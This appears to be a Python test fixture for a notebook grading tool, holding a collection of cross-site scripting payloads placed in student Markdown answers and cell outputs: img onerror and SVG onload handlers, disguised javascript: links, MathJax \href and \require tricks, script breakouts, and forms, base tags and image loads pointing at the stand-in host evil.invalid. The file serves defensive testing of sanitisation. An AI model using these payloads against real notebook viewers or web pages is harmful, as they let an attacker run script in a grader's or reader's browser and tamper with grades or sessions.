"""What a student may write to get hold of whoever looks at a graded notebook; each sets off an alarm."""

PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
ALARM = "window.alarm=1;fetch('/alarm');alert(1)"
IMG = f'<img src="x" onerror="{ALARM}">'
EVIL = "http://evil.invalid"
# Written answers, in Markdown.
ANSWERS = {
    "a tag": IMG,
    "a script": f"<script>{ALARM}</script>",
    "a tag within a line": f"text {IMG} text",
    "a tag within a formula": f"$x{IMG}$ and $\\text{{{IMG}}}$",
    "a tag within a broken formula": f"$x \\\\({IMG} \\begin{{a}}{IMG}",
    "a tag within code": f"`{IMG}`\n\n```html\n{IMG}\n```\n\n`` {IMG} `",
    "a tag in pieces": f'<<b>img src="x" onerror="{ALARM}"> <!-->{IMG}-->',
    "an unclosed tag": f'<p>\n<img src="x" onerror="{ALARM}" ',
    "a tag of an address": f"<https:/onmouseover={ALARM}//>\n\n<p>\n<https:/onmouseover={ALARM}//>",
    "SVG": f'<svg onload="{ALARM}"><animate onbegin="{ALARM}" attributeName="x"></svg>',
    "MathML": f"<math><mtext><mglyph><style>{IMG}</style></mglyph></mtext></math>",
    "a style": f"<style>@import '{EVIL}/x.css';</style><p style=\"position:fixed\">x</p>",
    "a link to a script": "[press](javascript:alert(1)) [press](JaVaScript:alert(1)) [press](vbscript:x)",
    "a link in disguise": "[a](<java\tscript:alert(1)>) [b](javascript&colon;alert(1)) [e][r]"
    " [c](javascript\\:alert(1)) [d](&#106;avascript:alert(1))\n\n[r]: javascript:alert(1)",
    "an image elsewhere": f"![]({EVIL}/x.png) ![a][b]\n\n[b]: /formgrader/?path=/tmp/evil",
    "a quote in an image": f'![x" onerror="{ALARM}](attachment:x.png)',
    "a form": f'<form action="{EVIL}"><input id="why" class="score"><button>Full credit</button></form>',
    "a frame": f'<iframe srcdoc="<script>parent.alarm=1</script>"></iframe><embed src="{EVIL}">',
    "a base": f'<base href="{EVIL}"><meta http-equiv="refresh" content="0;url={EVIL}">',
    "TeX that links": "$\\href{javascript:alert(1)}{x}$ $$\\url{javascript:alert(1)}$$",
    "TeX that loads": "$\\require{html}\\style{position:fixed}{x}\\class{score}{x}\\cssId{why}{x}$",
    "TeX spelled otherwise": "\\\\(\\&#104;ref{javascript:x}{x}\\\\) &bsol;href{javascript:x}{x}",
    "TeX that defines": "$\\let\\x=\\href \\x{javascript:alert(1)}{x} \\unicode{x41}$",
}
# Outputs: what a cell sends, with the metadata it sends along.
OUTPUTS = {
    "HTML": ({"text/html": f"<b>x</b>{IMG}<script>{ALARM}</script>"}, {}),
    "HTML with TeX": ({"text/html": "<p>$\\href{javascript:x}{x} \\<!-- -->href{javascript:x}{x}$</p>"}, {}),
    "HTML in a frame": ({"text/html": f"<script>{ALARM}</script>"}, {"text/html": {"isolated": True}}),
    "Markdown": ({"text/markdown": f"{IMG} [x](javascript:alert(1))"}, {}),
    "LaTeX": ({"text/latex": f"$\\href{{javascript:x}}{{y}}$ {IMG}"}, {}),
    "a script": ({"application/javascript": ALARM, "text/plain": "x"}, {}),
    "a drawing": ({"image/svg+xml": f"<svg onload='{ALARM}'><script>{ALARM}</script></svg>"}, {}),
    "a widget": ({"application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>alert(1)"}}, {}),
    "an image that ends": ({"image/png": f'x">{IMG}'}, {}),
    "an image's width": ({"image/png": PNG}, {"image/png": {"width": f"1 onload={ALARM}"}}),
    "an image's file": ({"image/png": PNG}, {"filenames": {"image/png": f"{EVIL}/x.png"}}),
    "a diagram": ({"text/vnd.mermaid": f"graph TD; a-->b; click a call {ALARM}", "text/plain": "x"}, {}),
}
